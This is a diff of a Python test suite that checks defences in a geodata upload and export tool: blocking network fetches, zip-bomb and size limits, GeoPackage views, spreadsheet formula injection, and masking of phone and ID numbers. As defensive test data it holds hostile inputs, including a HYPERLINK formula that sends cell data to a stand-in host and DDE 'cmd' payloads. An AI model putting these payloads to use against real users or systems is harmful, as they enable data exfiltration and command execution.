@@ -40,9 +40,11 @@ def point(lon: float = HANGZHOU[0], lat: float = HANGZHOU[1], **properties) -> d
 
 
 def grids_frame(n: int = 3) -> gpd.GeoDataFrame:
-    return gpd.GeoDataFrame({"code": [f"g{i}" for i in range(n)]},
-                            geometry=[shapely.box(120 + i * 0.01, 30, 120.01 + i * 0.01, 30.01) for i in range(n)],
-                            crs="EPSG:4326")
+    return gpd.GeoDataFrame(
+        {"code": [f"g{i}" for i in range(n)]},
+        geometry=[shapely.box(120 + i * 0.01, 30, 120.01 + i * 0.01, 30.01) for i in range(n)],
+        crs="EPSG:4326",
+    )
 
 
 # ---- 1. no network reads ------------------------------------------------------------------------
@@ -57,16 +59,27 @@ def link_bearing_files(url: str, tmp_path: Path) -> dict[str, bytes]:
         "duplicate.geojson": f'{head}"crs": {json.dumps(named)}, "crs": {json.dumps(link)}, "features": {features}}}',
         "escaped.geojson": f'{head}"\\u0063rs": {json.dumps(link)}, "features": {features}}}',
         "upper.geojson": f'{head}"features": {features}, "CRS": {json.dumps(link)}}}',
-        "geometry.geojson": json.dumps({"type": "FeatureCollection", "features": [
-            {"type": "Feature", "properties": {}, "geometry": {"type": "Point", "coordinates": list(HANGZHOU),
-                                                              "crs": link}}]}),
+        "geometry.geojson": json.dumps(
+            {
+                "type": "FeatureCollection",
+                "features": [
+                    {
+                        "type": "Feature",
+                        "properties": {},
+                        "geometry": {"type": "Point", "coordinates": list(HANGZHOU), "crs": link},
+                    }
+                ],
+            }
+        ),
         "network.kml": f'<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
-                       f'<NetworkLink><Link><href>{url}/k.kml</href></Link></NetworkLink><Placemark><name>a</name>'
-                       f'<Point><coordinates>120.1,30.2</coordinates></Point></Placemark></Document></kml>',
+        f"<NetworkLink><Link><href>{url}/k.kml</href></Link></NetworkLink><Placemark><name>a</name>"
+        f"<Point><coordinates>120.1,30.2</coordinates></Point></Placemark></Document></kml>",
     }
     out = {name: text.encode() for name, text in files.items()}
-    vrt = (f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>/vsicurl/{url}/x.csv</SrcDataSource>'
-           f'</OGRVRTLayer></OGRVRTDataSource>').encode()
+    vrt = (
+        f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>/vsicurl/{url}/x.csv</SrcDataSource>'
+        f"</OGRVRTLayer></OGRVRTDataSource>"
+    ).encode()
     out["vrt.zip"] = zipped({"x.vrt": vrt, "x.csv": b"lon,lat\n120.1,30.2\n"})
     folder = tmp_path / "shp"
     folder.mkdir()
@@ -95,8 +108,10 @@ def test_no_upload_makes_gdal_fetch_anything(listener, tmp_path):
 
 def test_every_crs_member_is_dropped_whatever_its_spelling():
     link = {"type": "link", "properties": {"href": "http://192.0.2.1/x"}}
-    text = ('{"type": "FeatureCollection", "crs": {"type": "name", "properties": {"name": "EPSG:4326"}}, '
-            f'"\\u0063rs": {json.dumps(link)}, "Crs": {json.dumps(link)}, "features": [{json.dumps(point(crs="kept"))}]}}')
+    text = (
+        '{"type": "FeatureCollection", "crs": {"type": "name", "properties": {"name": "EPSG:4326"}}, '
+        f'"\\u0063rs": {json.dumps(link)}, "Crs": {json.dumps(link)}, "features": [{json.dumps(point(crs="kept"))}]}}'
+    )
     assert gio._leading_crs(text) is None
     document, declared = gio._without_crs(text)
     assert declared == {"type": "name", "properties": {"name": "EPSG:4326"}}
@@ -106,8 +121,13 @@ def test_every_crs_member_is_dropped_whatever_its_spelling():
 
 def test_gdal_itself_is_offline_in_the_worker(listener):
     """Even a link GDAL is handed directly (no stripping) is not fetched: the worker's GDAL is offline."""
-    text = json.dumps({"type": "FeatureCollection", "features": [point()],
-                       "crs": {"type": "link", "properties": {"href": f"{listener.url}/crs", "type": "esriwkt"}}})
+    text = json.dumps(
+        {
+            "type": "FeatureCollection",
+            "features": [point()],
+            "crs": {"type": "link", "properties": {"href": f"{listener.url}/crs", "type": "esriwkt"}},
+        }
+    )
     frame = sandbox.run("raw.geojson", pyogrio.read_dataframe, text.encode())
     assert len(frame) == 1
     assert listener.requests == []
@@ -121,14 +141,17 @@ def lying_zip(member: str, content: bytes, claimed: int) -> bytes:
     data = bytearray(zipped({member: content}))
     for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
         at = data.find(signature)
-        data[at + offset:at + offset + 4] = struct.pack("<I", claimed)
+        data[at + offset : at + offset + 4] = struct.pack("<I", claimed)
     return bytes(data)
 
 
 def test_a_zip_that_lies_about_its_sizes_is_stopped_at_what_it_declares():
-    data = lying_zip("big.geojson", b" " * 3_000_000 + json.dumps(
-        {"type": "FeatureCollection", "features": [point()]}).encode(), claimed=1_000)
-    with pytest.raises(ReadError, match="the member `big.geojson` cannot be unpacked"):
+    data = lying_zip(
+        "big.geojson",
+        b" " * 3_000_000 + json.dumps({"type": "FeatureCollection", "features": [point()]}).encode(),
+        claimed=1_000,
+    )
+    with pytest.raises(ReadError, match=r"the member `big.geojson` cannot be unpacked"):
         read_upload("liar.zip", data)
     archive = zipfile.ZipFile(io.BytesIO(zipped({"a.geojson": b" " * 5_000})))
     with pytest.raises(ReadError, match=r"unpacks to more than 0\.0 MB \(it declares 0\.0 MB\)") as caught:
@@ -141,7 +164,7 @@ def test_a_member_declaring_more_than_the_cap_is_refused_before_unpacking(monkey
     monkeypatch.setattr(gio, "MAX_UPLOAD_BYTES", 100_000)
     data = zipped({"big.geojson": json.dumps({"type": "FeatureCollection", "features": [point()] * 2_000}).encode()})
     assert len(data) < 100_000
-    with pytest.raises(ReadError, match="which unpacks to 0.2 MB; a file may unpack to at most 0.1 MB"):
+    with pytest.raises(ReadError, match=r"which unpacks to 0.2 MB; a file may unpack to at most 0.1 MB"):
         read_upload("big.zip", data)
 
 
@@ -171,10 +194,14 @@ def cte_view_gpkg(tmp_path: Path) -> bytes:
     path = tmp_path / "cte.gpkg"
     pyogrio.write_dataframe(grids_frame(), path, layer="grids")
     with sqlite3.connect(path) as db:
-        db.execute("CREATE VIEW slow AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n "
-                   "WHERE i < 10000000000) SELECT i AS fid, (SELECT geom FROM grids LIMIT 1) AS geom FROM n")
-        db.execute("INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
-                   "VALUES ('slow', 'features', 'slow', 4326)")
+        db.execute(
+            "CREATE VIEW slow AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n "
+            "WHERE i < 10000000000) SELECT i AS fid, (SELECT geom FROM grids LIMIT 1) AS geom FROM n"
+        )
+        db.execute(
+            "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
+            "VALUES ('slow', 'features', 'slow', 4326)"
+        )
         db.execute("INSERT INTO gpkg_geometry_columns VALUES ('slow', 'geom', 'POLYGON', 4326, 0, 0)")
     return path.read_bytes()
 
@@ -191,8 +218,17 @@ def test_geopackage_views_are_never_listed_or_run(tmp_path):
 
 # ---- 4. no formula injection in downloads --------------------------------------------------------
 
-HOSTILE_NAMES = ['=HYPERLINK("http://192.0.2.1/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
-                 "\t=1+1", "\r=1+1", "  =cmd|' /C calc'!A0", "灯芯巷网格", "a=b"]
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =cmd|' /C calc'!A0",
+    "灯芯巷网格",
+    "a=b",
+]
 
 
 def test_downloads_hold_no_cell_a_spreadsheet_would_run():
@@ -200,8 +236,9 @@ def test_downloads_hold_no_cell_a_spreadsheet_would_run():
 
     from core import exports
 
-    table = pd.DataFrame({"name": HOSTILE_NAMES, "tickets": range(len(HOSTILE_NAMES)),
-                          "=1+1": [-1.5] * len(HOSTILE_NAMES)})
+    table = pd.DataFrame(
+        {"name": HOSTILE_NAMES, "tickets": range(len(HOSTILE_NAMES)), "=1+1": [-1.5] * len(HOSTILE_NAMES)}
+    )
     book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(table, "=ranking")))
     cells = [cell for row in book.active.iter_rows() for cell in row]
     assert [c for c in cells if c.data_type == "f"] == []
@@ -216,10 +253,12 @@ def test_downloads_hold_no_cell_a_spreadsheet_would_run():
 
 
 def test_every_download_goes_through_core_exports():
-    sources = [p for folder in ("dashboard", "core") for p in (ROOT / folder).rglob("*.py")
-               if p.name != "exports.py"]
-    direct = [f"{p.relative_to(ROOT)}" for p in sources
-              if re.search(r"\.to_csv\(|\.to_excel\(|ExcelWriter", p.read_text(encoding="utf-8"))]
+    sources = [p for folder in ("dashboard", "core") for p in (ROOT / folder).rglob("*.py") if p.name != "exports.py"]
+    direct = [
+        f"{p.relative_to(ROOT)}"
+        for p in sources
+        if re.search(r"\.to_csv\(|\.to_excel\(|ExcelWriter", p.read_text(encoding="utf-8"))
+    ]
     assert direct == []
 
 
@@ -274,19 +313,26 @@ def test_a_dbf_whose_header_disagrees_with_its_size_is_refused(tmp_path):
     parts = {p.suffix: bytearray(p.read_bytes()) for p in folder.iterdir()}
     parts[".dbf"][4:8] = struct.pack("<I", 5)
     data = zipped({f"g{suffix}": bytes(blob) for suffix, blob in parts.items()})
-    with pytest.raises(ReadError, match="the .dbf header says it holds 5 records, but the file holds 40"):
+    with pytest.raises(ReadError, match=r"the .dbf header says it holds 5 records, but the file holds 40"):
         read_upload("g.zip", data)
 
 
 # ---- 6. personal data in free text --------------------------------------------------------------
 
 
-@pytest.mark.parametrize(("text", "shown"), [
-    ("(0571)88889999", "057*****9999"), ("0571-8888 9999", "057*****9999"),
-    ("１３８１２３４５６７８", "138****5678"), ("Tel13812345678", "Tel138****5678"),
-    ("138.1234.5678", "138****5678"), ("+86 138 1234 5678", "138****5678"), ("座机88889999", "座机******99"),
-    ("2026年10月31日收到3件，订单20261031", "2026年10月31日收到3件，订单20261031"),
-])
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("(0571)88889999", "057*****9999"),
+        ("0571-8888 9999", "057*****9999"),
+        ("１３８１２３４５６７８", "138****5678"),
+        ("Tel13812345678", "Tel138****5678"),
+        ("138.1234.5678", "138****5678"),
+        ("+86 138 1234 5678", "138****5678"),
+        ("座机88889999", "座机******99"),
+        ("2026年10月31日收到3件，订单20261031", "2026年10月31日收到3件，订单20261031"),
+    ],
+)
 def test_phone_numbers_written_the_ways_residents_write_them_are_masked(text, shown):
     assert privacy.mask_text(text) == shown
 
@@ -298,11 +344,14 @@ def test_rows_left_out_of_an_upload_are_masked_in_every_text_column():
 
 def test_phone_and_id_numbers_in_free_text_are_masked():
 
-    text = ("住户13812345678反映，身份证110101199003071234，另一个11010119900307123X；"
-            "座机0571-87654321，+86 139 1234 5678，工单号20240101，卡号6222021234567890123")
+    text = (
+        "住户13812345678反映，身份证110101199003071234，另一个11010119900307123X；"
+        "座机0571-87654321，+86 139 1234 5678，工单号20240101，卡号6222021234567890123"
+    )
     assert privacy.mask_text(text) == (
         "住户138****5678反映，身份证110***********1234，另一个110***********123X；"
-        "座机057*****4321，139****5678，工单号20240101，卡号622************0123")
+        "座机057*****4321，139****5678，工单号20240101，卡号622************0123"
+    )
     frame = pd.DataFrame({"description": [text, None], "ticket_id": ["13812345678", "b"]})
     masked = privacy.mask_free_text(frame)
     assert "13812345678" not in masked["description"].iloc[0] and pd.isna(masked["description"].iloc[1])
@@ -321,7 +370,7 @@ def test_kml_with_5000_nested_folders_is_refused_clearly():
 
 
 def test_wkt_with_an_unknown_srid_is_refused_clearly():
-    data = "name,wkt\na,SRID=99999999;POINT (120.1 30.2)\n".encode()
+    data = b"name,wkt\na,SRID=99999999;POINT (120.1 30.2)\n"
     with pytest.raises(ReadError, match="says SRID=99999999, which is not an EPSG code") as caught:
         read_upload("w.csv", data)
     assert caught.value.code == "wkt_srid"
@@ -330,8 +379,14 @@ def test_wkt_with_an_unknown_srid_is_refused_clearly():
 def test_a_nan_vertex_does_not_break_the_datum_check(ws):
     from core import uploads
 
-    grid = {"type": "Feature", "properties": {"grid_id": "x1", "name": "a"}, "geometry": {
-        "type": "Polygon", "coordinates": [[[120.1, 30.2], [120.2, 30.2], [120.2, float("nan")], [120.1, 30.2]]]}}
+    grid = {
+        "type": "Feature",
+        "properties": {"grid_id": "x1", "name": "a"},
+        "geometry": {
+            "type": "Polygon",
+            "coordinates": [[[120.1, 30.2], [120.2, 30.2], [120.2, float("nan")], [120.1, 30.2]]],
+        },
+    }
     data = json.dumps({"type": "FeatureCollection", "features": [grid]}).encode()
     check = uploads.check_upload(ws, "grids", "nan.geojson", data)
     assert check.offset is not None and check.errors
@@ -349,9 +404,11 @@ def test_mapping_to_a_missing_column_is_refused_clearly(ws, demo):
 
 
 def test_utf16_kml_without_bom_is_checked_for_declarations():
-    kml = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE kml [<!ENTITY x "y">]>'
-           '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&x;</name>'
-           '<Point><coordinates>120.1,30.2</coordinates></Point></Placemark></kml>')
+    kml = (
+        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE kml [<!ENTITY x "y">]>'
+        '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&x;</name>'
+        "<Point><coordinates>120.1,30.2</coordinates></Point></Placemark></kml>"
+    )
     for codec in ("utf-16-le", "utf-16-be"):
         with pytest.raises(ReadError, match="declares a DOCTYPE or ENTITY"):
             read_upload("wide.kml", kml.encode(codec))
